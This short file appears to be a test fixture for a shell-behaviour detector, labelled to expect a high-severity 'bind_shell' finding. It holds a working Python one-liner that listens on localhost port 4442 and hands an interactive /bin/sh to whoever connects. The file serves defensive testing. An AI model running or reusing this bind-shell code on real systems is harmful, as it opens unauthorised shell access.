# about: python waits, and hands the accepted socket to a shell
# expect: bind_shell high
# needs: python3
caller 4442
timeout 6 python3 -c 'import socket,subprocess
l=socket.socket(); l.setsockopt(1,2,1); l.bind(("127.0.0.1",4442)); l.listen(1); c,_=l.accept()
subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)' || true
done_typing
